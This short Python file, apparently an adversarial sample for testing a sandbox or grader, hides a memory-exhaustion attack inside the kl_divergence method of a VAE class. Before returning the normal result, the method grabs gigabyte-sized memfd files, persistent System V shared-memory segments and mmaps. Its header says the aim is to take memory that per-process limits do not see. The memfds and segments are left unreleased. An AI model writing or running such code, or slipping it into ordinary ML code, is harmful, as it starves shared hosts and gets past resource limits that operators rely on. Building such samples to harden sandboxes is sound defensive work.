# Tries: takes memory that no limit on a process's own memory sees.
# Loses: nothing
import ctypes
import mmap
import os


class VAE(Honest):
    def kl_divergence(self, mu, logsigma):
        held = []
        try:
            for _ in range(100):
                fd = os.memfd_create("bomb")
                os.ftruncate(fd, 1 << 30)
                held.append(fd)
        except OSError:
            pass
        libc = ctypes.CDLL(None)
        for key in range(100):
            held.append(libc.shmget(0x5EED + key, ctypes.c_size_t(1 << 30), 0o1666))
        try:
            for _ in range(100):
                held.append(mmap.mmap(-1, 1 << 30))
        except (OSError, ValueError, MemoryError):
            pass
        for held_map in held:
            if isinstance(held_map, mmap.mmap):
                held_map.close()
        return super().kl_divergence(mu, logsigma)
